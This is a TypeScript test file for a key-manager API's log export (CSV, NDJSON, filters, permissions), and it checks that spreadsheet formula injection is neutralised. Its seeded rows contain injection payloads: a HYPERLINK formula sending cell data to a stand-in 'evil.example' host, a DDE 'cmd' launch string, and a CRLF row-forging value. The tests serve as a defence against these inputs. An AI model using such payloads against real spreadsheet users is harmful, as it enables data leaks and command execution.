import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { keyWithRole } from '../helpers/access.js';
import { detailsOf, newActivity } from '../helpers/activity.js';
import { activitySeeder, seedActivity, type SeedRow } from '../helpers/activity-seed.js';
import { createTestApp, type TestContext } from '../helpers/app.js';
import { DIALECTS } from '../helpers/database.js';
import { licenseFixture, readLog, type LogEntry } from '../helpers/request-logs.js';

const IN_2025 = 'to=2025-12-31T23:59:59.999Z';

/**
 * The documented CSV rule, written out independently of the exporter: empty for null, JSON text for
 * nested values, `true`/`false`, and a `'` before text a spreadsheet would run as a formula.
 */
function documentedCell(value: unknown): string {
  if (value === null) return '';
  if (typeof value === 'object') return JSON.stringify(value);
  if (typeof value === 'string' && ['=', '+', '-', '@', '\t', '\r'].includes(value[0] ?? ''))
    return `'${value}`;
  return String(value);
}

describe.each(DIALECTS)('exporting the logs on %s', (dialect) => {
  let t: TestContext;
  let seeded: SeedRow[];
  let requestWindow: string;

  const get = (url: string, key?: string) => t.request({ method: 'GET', url, ...(key && { key }) });

  /** The JSON list, every page. */
  async function list(log: string, query: string): Promise<LogEntry[]> {
    const entries: LogEntry[] = [];
    let cursor: string | null = null;
    do {
      const page: { data: LogEntry[]; next_cursor: string | null } = (
        await get(`/api/v1/logs/${log}?${query}&limit=7${cursor ? `&cursor=${cursor}` : ''}`)
      ).json();
      entries.push(...page.data);
      cursor = page.next_cursor;
    } while (cursor);
    return entries;
  }

  /** The CSV export parsed by a real CSV parser, checked cell by cell against the JSON list. */
  async function expectCsvMatchesList(log: string, query: string): Promise<string[][]> {
    const response = await get(`/api/v1/logs/${log}?${query}&format=csv`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="keymanager-${log}-log.csv"`);
    // RFC 4180: CRLF after every record.
    expect(response.body.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parse(response.body, { relax_column_count: false }) as string[][];
    const entries = await list(log, query);
    expect(entries.length).toBeGreaterThan(0);
    expect(header).toEqual(Object.keys(entries[0]!));
    expect(rows).toEqual(entries.map((entry) => header!.map((column) => documentedCell(entry[column]))));
    return rows;
  }

  beforeAll(async () => {
    t = await createTestApp(dialect);
    const seed = activitySeeder('2025-03-01T00:00:00.000Z');
    const at = (fields: Partial<SeedRow>) => {
      seed.clock.advance(1000);
      return seed.row(fields);
    };
    seeded = [
      at({ resource: 'Product prd_1 (Acme, "Pro" edition)', details: { name: 'Acme', tags: ['a', 'b'] } }),
      at({
        resource: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        user_agent: "+SUM(1+1)*cmd|' /C calc'!A0",
        admin_user: '@admin',
        details: { note: '-2+3' },
        ip: '203.0.113.7',
      }),
      at({
        resource: '-1',
        user_agent: '\tindented',
        session_id: '\rreturn',
        result: 'failure',
        error_code: 'ERR_X',
      }),
      at({
        user_agent: `curl/8\r\n${'x'},forged,row\nanother`,
        resource: 'multi\nline',
        details: { text: 'a\r\nb' },
      }),
      at({ resource: 'ünïcødé – 日本語', details: { emoji: '🔑' } }),
    ];
    await seedActivity(t.services.core.db, seeded);

    // Request-log entries: a success, a validation failure (nested validation_errors), a blocked request.
    const f = await licenseFixture(t);
    const validate = (payload: unknown) =>
      t.request({
        method: 'POST',
        url: '/api/v1/licenses/validate',
        key: f.apiKey,
        payload: payload as object,
      });
    await validate({ license_key: f.key });
    await validate({ license_key: f.key, fingerprint: 42 });
    await t.request({
      method: 'POST',
      url: '/api/v1/products',
      headers: { 'content-type': 'application/json', 'user-agent': '=cmd' },
      payload: '{bad json',
    });
    await readLog(t, 'api-calls'); // flushes the pipeline
    // Reading the request logs is itself an API call: the exports below come after this window.
    requestWindow = `from=2020-01-01T00:00:00Z&to=${t.clock.now().toISOString()}`;
    t.clock.advance(60_000);
  });
  afterAll(() => t.close());

  it('exports the activity log as CSV that parses back to the JSON list, formulas neutralised', async () => {
    const rows = await expectCsvMatchesList('activity', IN_2025);
    expect(rows).toHaveLength(seeded.length);
    const header = Object.keys((await list('activity', IN_2025))[0]!);
    const cell = (row: string[], column: string) => row[header.indexOf(column)];
    const formula = rows.find((row) => cell(row, 'ip') === '203.0.113.7')!;
    expect(cell(formula, 'resource')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(cell(formula, 'user_agent')).toBe(`'+SUM(1+1)*cmd|' /C calc'!A0`);
    expect(cell(formula, 'admin_user')).toBe(`'@admin`);
    expect(JSON.parse(cell(formula, 'details')!)).toEqual({ note: '-2+3' });
    const dashes = rows.find((row) => cell(row, 'error_code') === 'ERR_X')!;
    expect([cell(dashes, 'resource'), cell(dashes, 'user_agent'), cell(dashes, 'session_id')]).toEqual([
      "'-1",
      "'\tindented",
      "'\rreturn",
    ]);
  });

  it('keeps line breaks inside their quoted cell: no row can be forged', async () => {
    const body = (await get(`/api/v1/logs/activity?${IN_2025}&format=csv`)).body;
    // Read as a spreadsheet might: any CR, LF or CRLF outside quotes ends a record.
    const rows = parse(body, { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
    expect(rows).toHaveLength(seeded.length + 1);
    expect(rows.flat()).toContain('multi\nline');
    expect(rows.flat()).toContain(`curl/8\r\n${'x'},forged,row\nanother`);
    // Outside quoted cells, every line is a record of its own.
    expect(body).not.toMatch(/^forged/m);
  });

  it('exports the request logs as CSV matching their JSON lists, nested values as JSON text', async () => {
    await expectCsvMatchesList('api-calls', requestWindow);
    const failed = await expectCsvMatchesList('failed-api-calls', requestWindow);
    const header = Object.keys((await list('failed-api-calls', requestWindow))[0]!);
    const validation = failed.find((row) => row[header.indexOf('error_code')] === 'ERR_VALIDATION')!;
    expect(JSON.parse(validation[header.indexOf('validation_errors')]!)).toEqual([
      { field: 'fingerprint', message: expect.any(String) },
    ]);
    expect(validation[header.indexOf('request_body_truncated')]).toBe('false');
    const blocked = await expectCsvMatchesList('blocked', requestWindow);
    const blockedHeader = Object.keys((await list('blocked', requestWindow))[0]!);
    expect(blocked.map((row) => row[blockedHeader.indexOf('user_agent')])).toEqual(["'=cmd"]);
  });

  it('exports NDJSON, one entry a line, equal to the JSON list', async () => {
    for (const [log, query] of [
      ['activity', IN_2025],
      ['api-calls', requestWindow],
      ['failed-api-calls', requestWindow],
      ['blocked', requestWindow],
    ] as const) {
      const response = await get(`/api/v1/logs/${log}?${query}&format=ndjson`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="keymanager-${log}-log.ndjson"`,
      );
      const lines = response.body.split('\n');
      expect(lines.pop()).toBe('');
      expect(lines.map((line) => JSON.parse(line))).toEqual(await list(log, query));
    }
  });

  it('exports the filtered entries only, and an empty export as a header or nothing', async () => {
    const csv = parse(
      (await get(`/api/v1/logs/activity?${IN_2025}&result=failure&format=csv`)).body,
    ) as string[][];
    expect(csv.slice(1).map((row) => row[0])).toEqual(
      seeded.filter((r) => r.result === 'failure').map((r) => r.id),
    );
    const empty = await get(`/api/v1/logs/activity?${IN_2025}&action_type=REPORT_GENERATED&format=csv`);
    expect(empty.body).toBe(`${Object.keys((await list('activity', IN_2025))[0]!).join(',')}\r\n`);
    const none = await get(`/api/v1/logs/activity?${IN_2025}&action_type=REPORT_GENERATED&format=ndjson`);
    expect([none.statusCode, none.body]).toEqual([200, '']);
  });

  it('refuses a bad filter with 422 before any export starts', async () => {
    for (const query of [
      'format=csv&ip=nope',
      'format=csv&bogus=1',
      'format=xlsx',
      'format=ndjson&cursor=x',
    ]) {
      const response = await get(`/api/v1/logs/activity?${query}`);
      expect(response.statusCode).toBe(422);
      expect(response.headers['content-type']).toContain('application/json');
    }
  });

  it('records an export with its log, format and filters, and needs logs:read', async () => {
    const security = await keyWithRole(t, 'security');
    const entries = await newActivity(t, async () => {
      const response = await get(`/api/v1/logs/activity?${IN_2025}&q=acme&format=csv`, security);
      expect(response.statusCode).toBe(200);
    });
    expect(entries.map((e) => [e.action_type, e.resource, e.result, e.admin_user])).toEqual([
      ['LOGS_EXPORTED', 'activity log', 'success', 'security key'],
    ]);
    expect(detailsOf(entries[0]!)).toEqual({
      log: 'activity',
      format: 'csv',
      filters: { to: '2025-12-31T23:59:59.999Z', q: 'acme' },
    });
    for (const role of ['admin', 'support', 'viewer'] as const) {
      const key = await keyWithRole(t, role);
      const refused = await newActivity(t, async () => {
        expect((await get('/api/v1/logs/blocked?format=csv', key)).statusCode).toBe(403);
      });
      expect(refused.map((e) => [e.action_type, e.result])).toEqual([['LOGS_SEARCHED', 'failure']]);
    }
  });
});
